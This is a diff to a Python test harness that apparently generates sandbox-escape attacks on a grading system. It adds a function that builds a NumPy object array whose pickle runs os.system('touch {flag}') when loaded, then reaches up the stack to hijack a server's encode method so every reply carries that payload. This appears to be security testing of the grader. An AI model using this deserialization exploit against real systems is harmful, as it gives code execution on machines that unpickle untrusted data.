@@ -146,3 +146,31 @@ def huge_output() -> str:
                 pass
         print("ATTACK huge-output: printed 50 MB")
     ''')
+
+
+def pickled_array(flag: str) -> str:
+    """Answer every lookup with an object array in ``.npy`` form whose pickle runs a command where loaded.
+
+    If the grader ever unpickles what the sandbox sends, ``flag`` (a path on the instructor's
+    machine) appears.
+    """
+    return PRELUDE + textwrap.dedent(f'''
+        import base64, io
+        import numpy as _np
+        class _Payload:
+            def __reduce__(self):
+                return (os.system, ("touch {flag}",))
+        _buffer = io.BytesIO()
+        _np.save(_buffer, _np.array([_Payload()], dtype=object), allow_pickle=True)
+        _npy = base64.b64encode(_buffer.getvalue()).decode("ascii")
+        _frame, _server = sys._getframe(), None
+        while _frame is not None:
+            _self = _frame.f_locals.get("self")
+            if _self is not None and hasattr(_self, "op_lookup"):
+                _server = _self
+                break
+            _frame = _frame.f_back
+        if _server is not None:
+            _server.encode = lambda value, depth=0: {{"npy": _npy, "scalar": False}}
+            print("ATTACK pickle: every value now leaves as a pickled object array")
+    ''')
